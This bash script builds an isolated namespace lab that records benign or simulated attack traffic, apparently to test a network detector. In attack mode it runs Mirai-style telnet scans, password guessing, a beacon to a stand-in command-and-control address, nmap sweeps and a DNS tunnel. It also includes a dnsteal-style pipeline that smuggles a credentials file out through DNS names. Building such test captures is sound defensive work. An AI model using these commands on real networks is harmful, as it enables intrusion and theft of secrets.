#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
# The detection lab: a LAN and an "internet" host in network namespaces, with real tools acting
# out attacks or benign use. Usage: detect_lab.sh benign|attack OUTPUT.pcap
#
#   gw       10.79.0.1    00:1b:21 Intel    router to 198.51.100.0/24 and 10.79.2.0/24; dnsmasq DNS
#   cam      10.79.0.20   44:47:cc Hikvision  benign: DNS, HTTPS check-ins at irregular times;
#                                          attack: Mirai-style SYNs (sequence = destination) to
#                                          23/2323 across 10.79.2.0/27, telnet password guessing
#                                          against dvr, a 5 s beacon to 198.51.100.66:8443, a DNS
#                                          tunnel and generated domains
#   dvr      10.79.0.30   00:1a:2b Ayecom   telnetd (inetutils, through a minimal inetd)
#   scanner  10.79.0.40   e4:54:e8 Dell     attack only: nmap SYN and UDP port scans of dvr, sweep of
#                                          10.79.2.0/27 on tcp/80, ARP pings of the empty
#                                          10.79.0.64/27, ICMP pings of 10.79.2.32/27
#   nas      10.79.0.50   00:11:32 Synology benign: small uploads; attack: 6 MB bulk upload, and a
#                                          file sent to gw's DNS server in names, as dnsteal's
#                                          client one-liner sends it
#   inet     198.51.100.10 (behind gw)      accepts TCP on 443 and 8443; 198.51.100.66 is the
#                                          attack's command-and-control address
# Traffic never leaves these namespaces.
set -euo pipefail
mode=${1:?usage: detect_lab.sh benign|attack OUTPUT.pcap}
out=${2:?usage: detect_lab.sh benign|attack OUTPUT.pcap}
here=$(cd "$(dirname "$0")" && pwd)/detect
prefix=wd
work=$(mktemp -d /tmp/warden-detect-lab.XXXXXX)
chmod 755 "$work"
hosts=(gw cam dvr scanner nas)
declare -A mac=([gw]=00:1b:21:79:00:01 [cam]=44:47:cc:79:00:14 [dvr]=00:1a:2b:79:00:1e
                [scanner]=e4:54:e8:79:00:28 [nas]=00:11:32:79:00:32)
declare -A addr=([gw]=10.79.0.1 [cam]=10.79.0.20 [dvr]=10.79.0.30 [scanner]=10.79.0.40
                 [nas]=10.79.0.50)

cleanup() {
  set +e
  for pidfile in "$work"/*.pid; do
    [ -f "$pidfile" ] && kill "$(cat "$pidfile")" 2>/dev/null
  done
  sleep 0.3
  for h in "${hosts[@]}" sw inet; do
    ip netns pids "$prefix-$h" 2>/dev/null | xargs -r kill 2>/dev/null
    ip netns del "$prefix-$h" 2>/dev/null
  done
  rm -rf "$work"
}
trap cleanup EXIT
for h in "${hosts[@]}" sw inet; do ip netns del "$prefix-$h" 2>/dev/null || true; done

in_ns() { local h=$1; shift; ip netns exec "$prefix-$h" "$@"; }
bg() {  # bg NAME HOST CMD...
  local name=$1 h=$2; shift 2
  # Not through in_ns: a function sent to the background is a subshell, whose pid is not the
  # command's (killing it left tcpdump running). `ip netns exec` becomes the command.
  ip netns exec "$prefix-$h" "$@" >"$work/$name.log" 2>&1 &
  echo $! >"$work/$name.pid"
}

ip netns add "$prefix-sw"
in_ns sw sysctl -qw net.ipv6.conf.all.disable_ipv6=1
in_ns sw sysctl -qw net.ipv6.conf.default.disable_ipv6=1
in_ns sw ip link add br0 type bridge
in_ns sw ip link set br0 up
for h in "${hosts[@]}"; do
  ip netns add "$prefix-$h"
  ip link add "d-$h" netns "$prefix-sw" type veth peer name eth0 netns "$prefix-$h"
  in_ns sw ip link set "d-$h" master br0 up
  in_ns "$h" sysctl -qw net.ipv6.conf.all.disable_ipv6=1
  in_ns "$h" ip link set eth0 address "${mac[$h]}"
  in_ns "$h" ip link set lo up
  in_ns "$h" ip link set eth0 up
  in_ns "$h" ip addr add "${addr[$h]}/24" dev eth0
  [ "$h" = gw ] || in_ns "$h" ip route add default via 10.79.0.1
done
# The internet side: one host behind the gateway; 10.79.2.0/24 is routed but empty.
ip netns add "$prefix-inet"
ip link add wan0 netns "$prefix-gw" type veth peer name eth0 netns "$prefix-inet"
in_ns gw ip addr add 198.51.100.1/24 dev wan0
in_ns gw ip link set wan0 up
in_ns inet ip link set lo up
in_ns inet ip addr add 198.51.100.10/24 dev eth0
in_ns inet ip addr add 198.51.100.66/24 dev eth0  # the attack's command-and-control host
in_ns inet ip addr add 198.51.100.77/24 dev eth0  # an internet scanner
in_ns inet ip link set eth0 up
in_ns inet ip route add default via 198.51.100.1
in_ns gw ip route add blackhole 10.79.2.0/24
in_ns gw sysctl -qw net.ipv4.ip_forward=1

bg tcpdump sw tcpdump -i br0 -U -s 0 -w "$out"
for _ in $(seq 100); do  # until it listens (10 s at most)
  grep -q "listening on" "$work/tcpdump.log" && break
  sleep 0.1
done
bg dnsmasq gw dnsmasq --no-daemon --conf-file=/dev/null --interface=eth0 --bind-interfaces \
  --no-resolv --no-hosts --address=/lab.example/10.79.0.1 --address=/cloud.example/198.51.100.10 \
  --user=root
bg inet inet python3 "$here/sink_server.py" --ip 0.0.0.0 --ports 443,8443 --seconds 120
bg telnetd dvr python3 "$here/mini_inetd.py" --ip 10.79.0.30 --seconds 120 -- /usr/sbin/telnetd
sleep 1

# Benign use, in both modes: lookups, a few check-ins at irregular times, small uploads.
for name in time.cloud.example api.cloud.example fw.cloud.example; do
  in_ns cam busybox nslookup "$name" 10.79.0.1 >/dev/null 2>&1 || true
done
bg benign-cam cam python3 "$here/beacon.py" --host 198.51.100.10 --port 443 --count 5 \
  --interval 1 --jitter
bg benign-nas nas python3 "$here/beacon.py" --host 198.51.100.10 --port 443 --count 3 \
  --interval 1 --jitter --upload 20000

if [ "$mode" = attack ]; then
  bg beacon cam python3 "$here/beacon.py" --host 198.51.100.66 --port 8443 --count 9 --interval 5
  in_ns cam busybox nslookup update.c2.bad.example 10.79.0.1 >/dev/null 2>&1 || true
  in_ns cam python3 "$here/mirai_syn.py" --source 10.79.0.20 --network 10.79.2.0/27 --count 30 \
    >"$work/mirai.log" 2>&1
  bg brute cam python3 "$here/telnet_bruteforce.py" --host 10.79.0.30 --attempts 6
  in_ns cam python3 "$here/dns_tunnel.py" --server 10.79.0.1 --domain t.exfil.example \
    --queries 80 --dga 16 >"$work/tunnel.log" 2>&1
  in_ns scanner nmap -n -Pn -sS -T5 --max-retries 0 -p 1-200 10.79.0.30 >"$work/nmap1.log" 2>&1
  in_ns scanner nmap -n -Pn -sU -T5 --max-retries 0 -p 1-100 10.79.0.30 >"$work/nmap5.log" 2>&1
  in_ns scanner nmap -n -Pn -sS -T5 --max-retries 0 -p 80 10.79.2.0/27 >"$work/nmap2.log" 2>&1
  # Host discovery: ARP pings of an empty part of the LAN, ICMP echo to the routed range.
  in_ns scanner nmap -n -sn -PR -T5 --max-retries 0 10.79.0.64/27 >"$work/nmap3.log" 2>&1
  in_ns scanner nmap -n -sn -PE --disable-arp-ping -T5 --max-retries 0 10.79.2.32/27 \
    >"$work/nmap4.log" 2>&1
  in_ns nas python3 "$here/beacon.py" --host 198.51.100.10 --port 443 --count 1 \
    --upload 6000000 >"$work/upload.log" 2>&1
  # Two internet hosts reach the recorder's telnet through the gateway: a policy violation from
  # the internet, one alert for the exposed service however many hosts reach it.
  for source in 198.51.100.10 198.51.100.77; do
    in_ns inet python3 -c "import socket, sys
s = socket.create_connection(('10.79.0.30', 23), timeout=3, source_address=(sys.argv[1], 0))
s.close()" "$source" >>"$work/inbound.log" 2>&1 || true
  done
  # A file leaving in DNS names the way dnsteal's client one-liner sends it: gzip, base64 with
  # "+" written "*", labels of 57 characters and "-", four to a name, the file's name last.
  printf 'db_user=admin\ndb_password=lab-only-secret\napi_key=0123456789abcdef\n' \
    >"$work/secrets.txt"
  gzip -c "$work/secrets.txt" | base64 -w0 | tr '+' '*' | fold -w 57 | paste -d' ' - - - - |
    while read -r labels; do
      name=$(printf '%s-.' $labels)secrets.txt
      in_ns nas busybox nslookup "$name" 10.79.0.1 >/dev/null 2>&1 || true
    done
fi
for job in beacon brute benign-cam benign-nas; do
  [ -f "$work/$job.pid" ] || continue
  while kill -0 "$(cat "$work/$job.pid")" 2>/dev/null; do sleep 0.5; done
done
sleep 2
# Stopped and waited for, so the capture is whole before anyone reads it; what it counted is
# printed (a loaded machine can drop packets, and a test that then fails says why).
kill -INT "$(cat "$work/tcpdump.pid")" 2>/dev/null || true
wait "$(cat "$work/tcpdump.pid")" 2>/dev/null || true
grep "packets" "$work/tcpdump.log" | paste -sd ';' || true
echo "detect-lab ($mode): captured $(stat -c %s "$out") bytes to $out"
[ -f "$work/brute.log" ] && tail -1 "$work/brute.log"
exit 0
